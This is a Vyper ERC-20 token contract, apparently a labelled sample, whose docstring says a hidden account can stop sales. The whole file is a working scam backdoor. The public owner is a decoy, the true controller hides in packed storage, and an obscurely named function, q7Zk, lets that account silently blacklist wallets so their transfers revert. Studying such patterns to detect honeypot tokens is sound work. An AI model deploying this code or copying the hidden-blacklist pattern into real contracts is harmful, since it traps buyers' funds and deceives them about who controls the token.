# pragma version 0.4.3
# pragma evm-version cancun
"""
@title A hidden account can stop sales
@notice It shows a burn address or another idle owner. An account that only its
        storage names, beside a switch in the same slot, can block wallets by a function without a known name.
"""

from ..tokens.lib import erc20

initializes: erc20

exports: (
    erc20.name,
    erc20.symbol,
    erc20.decimals,
    erc20.totalSupply,
    erc20.balanceOf,
    erc20.allowance,
    erc20.approve,
)

# Who is shown as the owner; nothing is reserved for it.
owner: public(address)

# An account, and above it a switch, as packed storage has it.
_settings: uint256
_marked: HashMap[address, bool]


@deploy
def __init__(name: String[64], symbol: String[32], supply: uint256, hidden: address, shown: address):
    erc20.__init__(name, symbol, 18, supply)
    self.owner = shown
    self._settings = convert(hidden, uint256) + (1 << 160)


@external
def q7Zk(account: address, marked: bool):
    # Does nothing for others, rather than to revert.
    if convert(msg.sender, uint256) == self._settings % (1 << 160):
        self._marked[account] = marked


@internal
def _move(source: address, to: address, amount: uint256):
    assert not self._marked[source], "not now"
    erc20._move(source, to, amount)


@external
def transfer(to: address, amount: uint256) -> bool:
    self._move(msg.sender, to, amount)
    return True


@external
def transferFrom(source: address, to: address, amount: uint256) -> bool:
    erc20._spend(source, msg.sender, amount)
    self._move(source, to, amount)
    return True
